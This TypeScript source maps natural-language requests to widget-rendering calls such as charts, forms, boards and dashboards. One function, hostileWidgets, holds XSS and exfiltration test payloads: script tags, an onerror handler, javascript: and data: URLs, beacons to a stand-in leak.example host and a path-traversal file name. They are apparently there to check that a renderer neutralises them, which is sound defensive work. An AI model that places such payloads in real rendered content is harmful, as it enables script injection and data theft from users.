import { catalog, toldTypes, type WidgetType } from "../../../lib/surfaces/catalog.ts";

type Shown = Record<string, unknown>;

/** What asks for a widget in plain words. The first that fits counts. */
const spoken: readonly [RegExp, (text: string) => Shown][] = [
  [/\b(every|all)\b.*\bwidgets?\b/i, () => everyWidget()],
  [/\bhostile\b.*\bwidgets?\b/i, () => hostileWidgets()],
  [/\b(pie|line|area|bar)?\s*(chart|graph|plot)\b/i, chart],
  [/\bform\b/i, form],
  [/\b(kanban|board)\b/i, board],
  [/\bquestionnaire\b|\bsurvey\b/i, (text) => ({ ...one("questionnaire"), ...waits(text) })],
  [/\bdashboard\b/i, dashboard],
];

const asks = /\b(show|give|draw|make|display|chart|plot|build|want|need|create)\b/i;

/** Names of widgets that are ordinary words are meant only with "widget" behind them. */
const ordinary = new Set<string>([
  "table",
  "code",
  "markdown",
  "plan",
  "file",
  "form",
  "stack",
  "image",
  "section",
  "choice",
]);

/** What `show_surface` is called with for a message, or nothing. */
export function surfaceCalls(text: string): Shown[] {
  if (!asks.test(text) || /\bhttps?:/i.test(text) || surfaceChanges(text).length > 0) return [];
  const named = toldTypes.find((type) => namesWidget(text, type));
  if (named) return [{ ...one(named), ...(named === "choice" && waits(text)) }];
  const rule = spoken.find(([pattern]) => pattern.test(text));
  return rule ? [rule[1](text)] : [];
}

/** What `change_surface` is called with for a message such as `set Monday of the chart to 40`. */
export function surfaceChanges(text: string): Shown[] {
  const found = /\bset\s+(?:the\s+)?(\w+)\s+(?:of|in)\s+(?:the\s+)?chart\s+to\s+(\d+)/i.exec(text);
  const day = found
    ? days.findIndex((each) => each.toLowerCase().startsWith((found[1] ?? "").toLowerCase().slice(0, 3)))
    : -1;
  if (!found || day < 0) return [];
  return [
    {
      surface: "chart",
      patch: [{ op: "replace", path: `/nodes/chart/series/0/values/${day}`, value: Number(found[2]) }],
    },
  ];
}

function namesWidget(text: string, type: WidgetType): boolean {
  const words = type.replace(/[A-Z]/g, (letter) => ` ?${letter.toLowerCase()}`).replace("keyvalue", "key ?-?value");
  const spokenName = new RegExp(`\\b${words}s?\\b${ordinary.has(type) ? "\\s+widget" : ""}`, "i");
  return type !== "chart" && type !== "kanban" && type !== "questionnaire" && spokenName.test(text);
}

function one(type: WidgetType): Shown {
  const example = catalog[type].example as Shown;
  return {
    title: `A ${type.replace(/[A-Z]/g, (letter) => ` ${letter.toLowerCase()}`)}`,
    widgets: [{ id: type, ...example }, ...partsOf(example)],
  };
}

/** Parts for what holds others. */
function partsOf(example: Shown): Shown[] {
  const ids = [
    ...((example.children as string[] | undefined) ?? []),
    ...((example.tabs as { child: string }[] | undefined) ?? []).map(({ child }) => child),
  ];
  return ids.map((id, index) => ({
    id,
    type: "metric",
    label: `Part ${id}`,
    value: (index + 1) * 10,
    trend: [1, 3, 2, 5],
  }));
}

const days = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"];

function chart(text: string): Shown {
  const kind =
    /\b(pie|line|area|bar)\b/i.exec(text)?.[1]?.toLowerCase() ?? (/week|month|day/i.test(text) ? "bar" : "line");
  return {
    title: "The last week",
    name: "chart",
    widgets: [
      {
        id: "chart",
        type: "chart",
        kind,
        x: days,
        series: [
          { name: "Visits", values: [34, 42, 38, 51, 47, 29, 22] },
          ...(kind === "pie" ? [] : [{ name: "Orders", values: [8, 11, 9, 14, 12, 7, 5] }]),
        ],
      },
    ],
  };
}

function form(text: string): Shown {
  const about = /\bform\s+(?:for|about|on|to)\s+(?:an?\s+|the\s+|my\s+)?([\w ]{2,40}?)(?:[.,!?]|$)/i.exec(text)?.[1];
  const isTrip = !about || /trip|travel|journey|holiday/i.test(about);
  const fields = isTrip
    ? catalog.form.example.fields
    : [
        { name: "name", label: "Name", required: true },
        { name: "details", label: `About the ${about}`, kind: "longText" },
      ];
  return {
    title: isTrip ? "Your trip" : `About the ${about}`,
    name: "form",
    widgets: [{ id: "form", type: "form", fields, submit: "Send" }],
    ...waits(text),
  };
}

function board(text: string): Shown {
  const listed = (text.split(/:\s*/)[1] ?? "")
    .split(/\s*[,;\n]\s*/)
    .map((each) => each.replace(/[.\s]+$/, ""))
    .filter(Boolean);
  const { columns, cards } = catalog.kanban.example;
  const own = listed.map((title, index) => ({ id: `card-${index + 1}`, title, column: "todo" }));
  return {
    title: "The tasks",
    name: "board",
    widgets: [{ id: "board", type: "kanban", columns, cards: own.length > 0 ? own : cards }],
  };
}

function dashboard(): Shown {
  return {
    title: "At a glance",
    name: "dashboard",
    widgets: [
      { id: "figures", type: "grid", columns: 3, children: ["orders", "cost", "plan"] },
      { id: "orders", ...catalog.metric.example },
      { id: "cost", type: "metric", label: "Tokens of this run", value: { $bind: "/run/tokens" } },
      { id: "plan", type: "progress", label: "Plan", value: { $bind: "/plan/percent" } },
      { id: "chart", ...(catalog.chart.example as Shown) },
    ],
  };
}

function everyWidget(): Shown {
  const widgets = toldTypes
    .filter((type) => !["grid", "stack", "section", "tabs"].includes(type))
    .map((type) => ({ id: type, ...(catalog[type].example as Shown) }));
  return { title: "Every widget", widgets };
}

/** What a model must never get drawn: for those who want to see for themselves that nothing comes of it. */
function hostileWidgets(): Shown {
  const script = "<script>window.hacked = true</script><img src=x onerror='window.hacked = true'>";
  return {
    title: script.slice(0, 200),
    widgets: [
      {
        type: "markdown",
        text: `${script}\n\n[a link](javascript:window.hacked=true) ![leak](http://leak.example/p.png?secret=1)`,
      },
      {
        type: "citations",
        items: [
          { title: script, url: "javascript:window.hacked=true" },
          { title: "data", url: "data:text/html,<script>window.hacked=true</script>" },
        ],
      },
      { type: "image", alt: script, url: "http://leak.example/pixel.png?data=secret" },
      {
        type: "table",
        columns: [{ key: "link", kind: "link" }],
        rows: [["javascript:window.hacked=true"], ["data:text/html,x"], [script]],
      },
      { type: "callout", title: script, text: script, style: "background:url(http://leak.example/css)" },
      { type: "file", name: "../../x.html", text: script },
    ],
  };
}

function waits(text: string): Shown {
  return /\b(don't|do not|without) wait/i.test(text) ? {} : { wait: true };
}
